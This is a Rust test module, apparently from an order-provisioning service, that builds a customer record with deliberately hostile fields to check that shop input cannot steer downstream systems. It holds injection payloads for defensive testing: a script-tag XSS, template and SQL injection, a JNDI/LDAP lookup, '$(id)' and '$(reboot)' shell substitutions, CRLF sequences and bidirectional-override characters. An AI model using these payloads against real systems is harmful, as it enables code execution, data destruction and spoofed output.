//! Poison: what a shop, or whoever types into its forms, may hand over, all the way through: intake, line, the bytes
//! upstream, emails, an operator's terminal, logs, metrics. Nothing of it may steer anything.

mod eml;
mod names;
mod panics;
mod refused;
mod way;

use serde_json::{Value, json};

/// Words that a browser, a template, a shell, a database or a logger would act on.
const MARKUP: &str = "<script>alert(1)</script>{{7*7}}{%raw%}";
const SQL: &str = "'); DROP TABLE provisor.orders; --";
const BREAKOUT: &str =
    r#""><img src=x onerror=alert(1)> ${jndi:ldap://192.0.2.1/a} $(id) `id` \r\n%0d%0a"#;

/// Text that turns the direction of writing, and characters without a shape.
const TURNED: &str = "\u{202e}nworB\u{202c}\u{2066}\u{200b}\u{feff}\u{e0041}";

/// Text that is merely from elsewhere, and must arrive as it is.
const FOREIGN: &str = "مدينة Łódź 東京 👩\u{200d}👩\u{200d}👧 Z\u{30a}";

/// A reference of every printable character that one may hold.
fn reference() -> String {
    let printable: String = ('!'..='~').collect();
    format!("SHOP-{printable}")
}

/// A customer whose every field is hostile, and yet a customer.
fn customer() -> Value {
    json!({
        "reference": "C-$(reboot);'\"<b>{{7*7}}",
        "first_name": MARKUP,
        "last_name": TURNED,
        "organization": SQL,
        "email": "bob+tag@example.com",
        "phone": "+31612345678",
        "address": BREAKOUT,
        "postal_code": "'--{{x}}<b>",
        "city": FOREIGN,
        "country": "NL",
    })
}

/// Whether a character steers a terminal or turns the direction of writing.
fn steers(c: char) -> bool {
    c.is_control() && c != '\n'
        || matches!(c, '\u{061c}' | '\u{200b}' | '\u{200e}' | '\u{200f}' | '\u{feff}')
        || matches!(c, '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{2069}')
}

/// Nothing in a text that people or terminals read steers anything.
#[track_caller]
fn assert_harmless(what: &str, text: &str) {
    let found = text.char_indices().find(|&(_, c)| steers(c));
    assert!(found.is_none(), "{what}: {found:?} in {text}");
}
